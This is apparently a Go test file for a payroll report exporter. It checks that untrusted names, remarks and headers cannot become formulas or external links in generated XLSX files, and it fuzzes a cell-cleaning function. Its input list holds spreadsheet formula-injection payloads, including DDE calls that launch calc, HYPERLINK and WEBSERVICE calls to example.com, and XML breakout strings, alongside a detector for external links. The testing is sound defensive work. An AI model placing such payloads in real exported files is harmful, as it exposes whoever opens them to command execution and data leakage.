package reports_test

import (
	"archive/zip"
	"encoding/xml"
	"io"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"

	"gajian/ledger"
	"gajian/reports"
)

// hostileTexts would be run, or would break a part, where somebody forgets that they are data.
var hostileTexts = []string{
	"=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1", "＝1+1",
	`=HYPERLINK("http://example.com/"&A1,"click")`, `=cmd|'/C calc'!A0`, `=DDE("cmd";"/C calc";"x")`, `=WEBSERVICE("http://example.com/")`,
	`"};=1+1`, "</t></is></c><c r=\"A1\"><f>1+1</f></c>", "]]><x/>", "&quot;&#61;1", `x" onload="y`, "'=1", "''",
	"_x003D_1+1", "_x000D_=1", "_x005F_x003D_", "\x00=1", "\x1b]0;x\x07", "\u202e1+1=", "\u2028=1", "\ud7ff\ue000\ufffe\uffff", "a\xff\xfe", "&A&F&P&&", "#REF!", "1E5", "TRUE", strings.Repeat("=", 40_000),
}

// TestHostileTextsEverywhere puts every text wherever a report shows one that is not ours: line and extra
// columns, headers, file name, who did what, the bank's name of the holder, the provider's words. The
// workbook and the retry file then have the same formulas as with harmless texts, and nothing but text
// cells elsewhere; every part is whole.
func TestHostileTextsEverywhere(t *testing.T) {
	harmless := make([]string, len(hostileTexts))
	for i := range harmless {
		harmless[i] = "harmless"
	}
	want, wantRetry := hostileReports(t, harmless, "harmless")
	if want == "" || wantRetry == "" {
		t.Fatal("there are no formulas to compare")
	}
	for _, text := range []string{hostileTexts[0], hostileTexts[10], hostileTexts[15], hostileTexts[len(hostileTexts)-1]} {
		got, gotRetry := hostileReports(t, hostileTexts, text)
		if got != want {
			t.Errorf("%.20q changes the formulas:\n%s\nnot\n%s", text, got, want)
		}
		if gotRetry != wantRetry {
			t.Errorf("%.20q changes the formulas of the retry file:\n%s\nnot\n%s", text, gotRetry, wantRetry)
		}
	}
}

// hostileReports writes both files with texts in the lines and text everywhere else, and returns their formulas.
func hostileReports(t *testing.T, texts []string, text string) (workbook, retry string) {
	t.Helper()
	src := poisoned(texts, text)
	written := writeWorkbook(t, src, withActor(text))
	path := filepath.Join(t.TempDir(), "retry.xlsx")
	if n, err := reports.WriteRetry(t.Context(), path, src, withActor(text)); err != nil || n != len(texts) {
		t.Fatalf("%.20q: %d in the retry file, %v", text, n, err)
	}
	for _, name := range []string{written, path} {
		checkCells(t, name)
		checkParts(t, name)
	}
	return strings.Join(formulas(t, written), "\n"), strings.Join(formulas(t, path), "\n")
}

func withActor(text string) reports.Options {
	o := options
	o.GeneratedBy, o.Version = text, text
	o.BankName = func(string) string { return text }
	o.Changes, o.Base = true, poisonedBase(text)
	return o
}

// poisonedBase is a batch that has paid somebody who is not in the batches of these tests.
func poisonedBase(text string) *fakeSource {
	p := newPayout(2, ledger.Settled)
	p.EmployeeID, p.Name, p.BankCode, p.AccountNumber = "gone "+text, text, text, text
	base := newSource(p)
	base.summary.Period = text
	return base
}

// poisoned is a batch of three payouts for each of the texts, which stands wherever others' texts do.
func poisoned(texts []string, text string) *fakeSource {
	var payouts []ledger.Payout
	for i, own := range texts {
		for j, status := range []ledger.Status{ledger.Failed, ledger.Settled, ledger.Held} {
			p := newPayout(2+3*i+j, status)
			p.EmployeeID, p.Name, p.BankCode, p.AccountNumber, p.Phone, p.Email, p.Remark, p.PayType = own, own, own, own, own, own, own, own
			p.HolderName, p.Reason, p.ProviderReference, p.CostCenter = own, own, own, own
			p.Extra = []string{own, own}
			p.Changes = ledger.Changes{What: ledger.ChangeAccount | ledger.ChangeName, Since: own, BankCode: own, AccountNumber: own, Name: own, Amount: 1_00, Other: own}
			payouts = append(payouts, p)
		}
	}
	for i := range payouts {
		if payouts[i].Status == ledger.Settled {
			payouts[i].CostCenter = "HR" // the journal has a row for each, which moves its formulas
		}
	}
	payouts[1].CostCenter = text
	src := newSource(payouts...)
	src.summary.File, src.summary.CreatedBy, src.summary.Period = text, text, text
	src.summary.ExtraColumns = []string{text, text}
	src.summary.Base = "2026-10-ABC999"
	events := newEvents(payouts)
	for i := range events {
		own := texts[i%len(texts)]
		events[i].Actor, events[i].Evidence.Message, events[i].Evidence.Reason, events[i].Evidence.Code, events[i].Evidence.ExternalID = own, own, own, own, own
	}
	src.events = each(events)
	return src
}

// walkParts gives every XML part of an archive to visit.
func walkParts(t *testing.T, name string, visit func(part string, content io.Reader)) {
	t.Helper()
	archive, err := zip.OpenReader(name)
	if err != nil {
		t.Fatal(err)
	}
	defer archive.Close()
	for _, part := range archive.File {
		content, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		visit(part.Name, content)
		content.Close()
	}
}

// checkParts reads every part to its end: well-formed, no document type, nothing that leads outside.
func checkParts(t *testing.T, name string) {
	t.Helper()
	walkParts(t, name, func(part string, content io.Reader) {
		decoder := xml.NewDecoder(content)
		for {
			token, err := decoder.Token()
			if err == io.EOF {
				return
			}
			if err != nil {
				t.Fatalf("%s: %v", part, err)
			}
			switch token := token.(type) {
			case xml.Directive:
				t.Errorf("%s has a document type", part)
			case xml.StartElement:
				for _, attr := range token.Attr {
					if attr.Name.Local == "TargetMode" && attr.Value == "External" || token.Name.Local == "hyperlink" || token.Name.Local == "ddeLink" {
						t.Errorf("%s leads outside: %v", part, token)
					}
				}
			}
		}
	})
}

// formulas are all texts that a program would calculate: of cells, names, conditions and charts.
func formulas(t *testing.T, name string) (found []string) {
	t.Helper()
	calculated := map[string]bool{"f": true, "definedName": true, "formula": true, "formula1": true}
	walkParts(t, name, func(part string, content io.Reader) {
		decoder := xml.NewDecoder(content)
		inside := ""
		for {
			token, err := decoder.Token()
			if err != nil {
				return // checkParts complains
			}
			switch token := token.(type) {
			case xml.StartElement:
				inside = token.Name.Local
			case xml.EndElement:
				inside = ""
			case xml.CharData:
				if calculated[inside] {
					found = append(found, part+": "+string(token))
				}
			}
		}
	})
	return found
}

// FuzzClean holds that what goes into a cell is allowed in XML, fits, moves nothing on the screen, stays
// as it is when it is cleaned again, and is otherwise the text that was given.
func FuzzClean(f *testing.F) {
	for _, text := range hostileTexts {
		f.Add(text)
	}
	f.Add(strings.Repeat("😀", 16384))
	f.Fuzz(func(t *testing.T, text string) {
		got := reports.Clean(text)
		if units := len(utf16.Encode([]rune(got))); units > 32767 || !utf8.ValidString(got) {
			t.Errorf("%d units, valid %v", units, utf8.ValidString(got))
		}
		if reports.Clean(got) != got {
			t.Errorf("%q cleaned again is %q", got, reports.Clean(got))
		}
		var escaped strings.Builder
		if err := xml.EscapeText(&escaped, []byte(got)); err != nil || strings.Count(escaped.String(), "\ufffd") != strings.Count(got, "\ufffd") {
			t.Errorf("%q holds what XML forbids (%v)", got, err)
		}
		if strings.ContainsAny(got, "\x00\x07\x1b\x7f\u009b\u202a\u202b\u202c\u202d\u202e\u061c\u200f\u2066\u2067\u2068\u2069") {
			t.Errorf("%q holds a control character", got)
		}
		given, kept := []rune(strings.ToValidUTF8(text, "")), []rune(strings.TrimSuffix(got, "…"))
		if !utf8.ValidString(text) {
			return
		}
		for i, r := range kept {
			if r != given[i] && r != '\ufffd' {
				t.Fatalf("character %d of %q is %q in %q", i, text, r, got)
			}
		}
	})
}
